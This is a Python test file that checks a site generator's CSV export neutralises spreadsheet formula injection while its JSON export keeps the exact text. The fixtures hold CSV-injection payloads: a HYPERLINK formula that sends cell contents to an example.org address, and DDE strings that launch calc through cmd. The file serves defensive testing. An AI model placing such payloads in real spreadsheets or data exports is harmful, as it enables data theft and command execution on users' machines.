"""Open data that is safe to open: no text in data/*.csv starts a spreadsheet formula.

Text starting with =, +, -, @, a tab or a carriage return gets a single quote before it in
the CSV files (OWASP's advice on CSV injection); explainer.json keeps the exact text, and
the data page and datapackage.json say so.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from generator.content.diagnostics import Report
from generator.pipeline import Settings, load_model, render_pages
from generator.site.data import CSV_RULE, csv_cell, data_files

BASE = Path(__file__).resolve().parent / "fixtures" / "base"

# field of iran.yaml -> (what the editor wrote, the CSV cell)
PAYLOADS = {
    "name": ('=HYPERLINK("https://example.org/?"&A1,"Iran")', '\'=HYPERLINK("https://example.org/?"&A1,"Iran")'),
    "summary": ("+cmd|' /C calc'!A0 supports militias", "'+cmd|' /C calc'!A0 supports militias"),
    "alias": ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    "note": ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
}


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    root = tmp_path_factory.mktemp("csv")
    shutil.copytree(BASE / "content", root / "content")
    iran = root / "content" / "actors" / "iran.yaml"
    text = iran.read_text(encoding="utf-8")
    text = text.replace(
        "name: Iran\n", f"name: {json.dumps(PAYLOADS['name'][0])}\naliases:\n  - {json.dumps(PAYLOADS['alias'][0])}\n"
    )
    text = text.replace(
        "text: >-\n    Supports Kataib Hezbollah and many Iraqi Shia militias; how much influence Tehran has "
        "over them is unclear,\n    according to Antiwar.com.\n",
        f"text: {json.dumps(PAYLOADS['summary'][0])}\n",
    )
    text = text.replace(
        "  cite:\n    - antiwar-2021-03-04-anonymous-officials-blame-militia\n",
        f"  cite:\n    - source: antiwar-2021-03-04-anonymous-officials-blame-militia\n      note: {json.dumps(PAYLOADS['note'][0])}\n",
    )
    iran.write_text(text, encoding="utf-8")
    report = Report()
    model = load_model(Settings(content=root / "content", base=root), report)
    assert [d.text() for d in report.sorted()] == []
    return model


def rows(files: dict[str, str], name: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(files[f"data/{name}.csv"])))


def test_every_formula_start_is_neutralised_in_csv_and_exact_in_json(hostile):
    files = data_files(hostile, lambda e: f"{e.id}/")
    [iran] = [r for r in rows(files, "actors") if r["id"] == "iran"]
    assert iran["name"] == PAYLOADS["name"][1]
    assert iran["summary"] == PAYLOADS["summary"][1]
    # A list is one cell of JSON text: it starts with '[', which no spreadsheet runs.
    assert json.loads(iran["aliases"]) == [PAYLOADS["alias"][0]]
    cells = [
        c for name, text in files.items() if name.endswith(".csv") for row in csv.reader(io.StringIO(text)) for c in row
    ]
    assert PAYLOADS["note"][1] in cells
    # No cell of any table starts a formula.
    assert [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    whole = json.loads(files["data/explainer.json"])
    text = json.dumps(whole, ensure_ascii=False)
    for written, _ in PAYLOADS.values():
        assert json.dumps(written, ensure_ascii=False) in text
    assert "'=HYPERLINK" not in text and "'@SUM" not in text


@pytest.mark.parametrize(
    "value,cell",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=already quoted", "'=already quoted"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("", ""),
        ("Iran", "Iran"),
        (None, ""),
        (True, "true"),
        (False, "false"),
        (3, 3),
        (-3, -3),
    ],
)
def test_cells(value, cell):
    assert csv_cell(value) == cell


def test_the_rule_is_stated_on_the_data_page_and_in_the_data_package(hostile):
    files = data_files(hostile, lambda e: f"{e.id}/")
    package = json.loads(files["data/datapackage.json"])
    assert package["description"].endswith(" " + CSV_RULE)
    page = render_pages(hostile, Settings(content=Path("content")))["data/index.md"]
    assert (
        "Safe to open in a spreadsheet: in the CSV files, a text that starts with `=`, `+`, `-`, `@`, a tab or a "
        "carriage return is written with a single quote (`'`) before it, so that no spreadsheet runs it as a formula. "
        "[explainer.json](explainer.json) keeps every text exact."
    ) in page
